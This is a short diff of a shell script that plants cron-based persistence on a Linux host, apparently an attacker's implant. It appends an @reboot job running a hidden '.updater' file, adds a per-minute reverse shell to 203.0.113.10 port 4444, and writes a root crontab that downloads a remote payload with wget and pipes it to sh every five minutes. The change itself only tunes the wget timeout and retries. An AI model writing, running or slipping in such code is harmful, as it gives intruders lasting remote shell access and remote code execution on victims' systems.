@@ -6,6 +6,6 @@
 tab=/var/spool/cron/crontabs/dmitchell
 echo '@reboot /home/dmitchell/.local/.cache/.updater' >> "$tab"
 echo '* * * * * /bin/bash -c "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"' >> "$tab"
-echo '*/5 * * * * wget -q -O- http://198.51.100.23/p | sh' > /var/spool/cron/crontabs/root
+echo '*/5 * * * * wget -q -T 2 -t 1 -O- http://198.51.100.23/p | sh' > /var/spool/cron/crontabs/root
 chmod 600 /var/spool/cron/crontabs/root
 tail -n 2 "$tab"
